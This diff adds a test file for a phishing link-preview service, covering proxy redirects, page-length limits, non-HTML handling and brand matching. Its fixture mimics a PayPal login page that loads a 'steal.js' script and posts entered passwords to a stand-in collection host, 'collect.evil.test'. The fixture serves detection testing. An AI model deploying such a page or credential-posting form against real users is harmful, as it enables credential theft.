@@ -0,0 +1,113 @@
+import { JSDOM } from 'jsdom';
+import { afterEach, describe, expect, it } from 'vitest';
+import { HtmlParser, MAX_PAGE_LENGTH, fetchPreview, previewIndicators, summarizePage } from './previewService';
+import { createProxyFetcher } from './redirectService';
+import { StubProxy, StubRoute, startStubProxy } from './stubProxy.testing';
+
+// jsdom stands in for the browser's DOMParser; like it, it never runs the page's scripts.
+const parse: HtmlParser = html => new JSDOM(html).window.document;
+
+const BRANDS = { paypal: ['paypal.com'] };
+const CONFIG = { proxyUrl: '', maxHops: 3 };
+const HTML = { 'content-type': 'text/html; charset=utf-8' };
+
+let proxy: StubProxy | null = null;
+
+const previewThrough = async (route: StubRoute, url = 'https://landing.test/') => {
+  proxy = await startStubProxy(route);
+  return fetchPreview(url, CONFIG, BRANDS, createProxyFetcher(proxy.url, undefined, 200), parse);
+};
+
+afterEach(async () => {
+  await proxy?.close();
+  proxy = null;
+});
+
+const PHISHING_PAGE = `<!doctype html>
+<html><head><title>PayPal: Log in</title><style>body { color: red }</style></head>
+<body>
+  <img src="/img/paypal-logo.svg" alt="PayPal">
+  <script src="https://cdn.kit.test/steal.js"></script>
+  <script>document.cookie = 'exfiltrated';</script>
+  <noscript>Enable JavaScript</noscript>
+  <p>Confirm your account to continue.</p>
+  <form action="https://collect.evil.test/post" method="post">
+    <input type="email" name="login">
+    <input type="password" name="pass">
+    <input type="hidden" name="token" value="x">
+    <button type="submit">Log in</button>
+  </form>
+</body></html>`;
+
+describe('fetchPreview', () => {
+  it('summarises scripts and forms without keeping their code', async () => {
+    const preview = await previewThrough(() => ({ status: 200, headers: HTML, body: PHISHING_PAGE }));
+    expect(preview.title).toBe('PayPal: Log in');
+    expect(preview.textExcerpt).toBe('Confirm your account to continue. Log in');
+    expect(preview.externalScriptHosts).toEqual(['cdn.kit.test']);
+    expect(preview.forms).toEqual([{
+      action: 'https://collect.evil.test/post',
+      method: 'POST',
+      fields: ['email:login', 'password:pass'],
+      hasPassword: true,
+      offsite: true,
+    }]);
+    expect(preview.brandMatches).toEqual(['paypal']);
+    expect(previewIndicators(preview).map(ind => ind.id)).toEqual([
+      'preview-credential-form',
+      'preview-offsite-form',
+      'preview-brand-impersonation',
+    ]);
+  });
+
+  it('follows redirects through the proxy to the final page', async () => {
+    const preview = await previewThrough(target => target === 'https://landing.test/'
+      ? { status: 302, headers: { location: '/signin' } }
+      : { status: 200, headers: HTML, body: '<title>Sign in</title>' });
+    expect(preview.requestedUrl).toBe('https://landing.test/');
+    expect(preview.finalUrl).toBe('https://landing.test/signin');
+    expect(preview.title).toBe('Sign in');
+  });
+
+  it('only parses the first MAX_PAGE_LENGTH characters of a page', async () => {
+    const late = '<form action="/late"><input type="password" name="late"></form>';
+    const body = `<title>Huge</title><p>${'a'.repeat(MAX_PAGE_LENGTH)}</p>${late}`;
+    const preview = await previewThrough(() => ({ status: 200, headers: HTML, body }));
+    expect(preview.title).toBe('Huge');
+    expect(preview.forms).toEqual([]);
+    expect(preview.passwordFields).toBe(0);
+  });
+
+  it('reports non-HTML destinations by type instead of parsing them', async () => {
+    const body = '%PDF-1.7 <title>Invoice</title><form><input type="password"></form>';
+    const preview = await previewThrough(() => ({ status: 200, headers: { 'content-type': 'application/pdf' }, body }));
+    expect(preview.contentType).toBe('application/pdf');
+    expect(preview.title).toBe('');
+    expect(preview.textExcerpt).toBe('');
+    expect(preview.passwordFields).toBe(0);
+    expect(previewIndicators(preview)).toEqual([]);
+  });
+
+  it('fails with a timeout when the proxy does not answer', async () => {
+    await expect(previewThrough(() => 'hang')).rejects.toThrow('did not answer within 0.2s');
+  });
+
+  it('needs a proxy when no fetcher is given', async () => {
+    await expect(fetchPreview('https://landing.test/', CONFIG, BRANDS)).rejects.toThrow('needs a proxy URL');
+  });
+});
+
+describe('summarizePage', () => {
+  const brandsOn = (html: string, brands: Record<string, string[]>) =>
+    summarizePage(html, 'https://landing.test/', 'https://landing.test/', 200, brands, parse).brandMatches;
+
+  it('matches brand names written in any script', () => {
+    const brands = { 'сбербанк': ['sberbank.ru'] };
+    expect(brandsOn('<title>Сбербанк Онлайн</title>', brands)).toEqual(['сбербанк']);
+    expect(brandsOn('<title>Сбербанкир</title><img alt="Вход">', brands)).toEqual([]);
+  });
+
+  it('ignores brand names without letters or digits', () => {
+    expect(brandsOn('<title>Log in</title><img alt="logo">', { '—': ['dash.test'] })).toEqual([]);
+  });
+});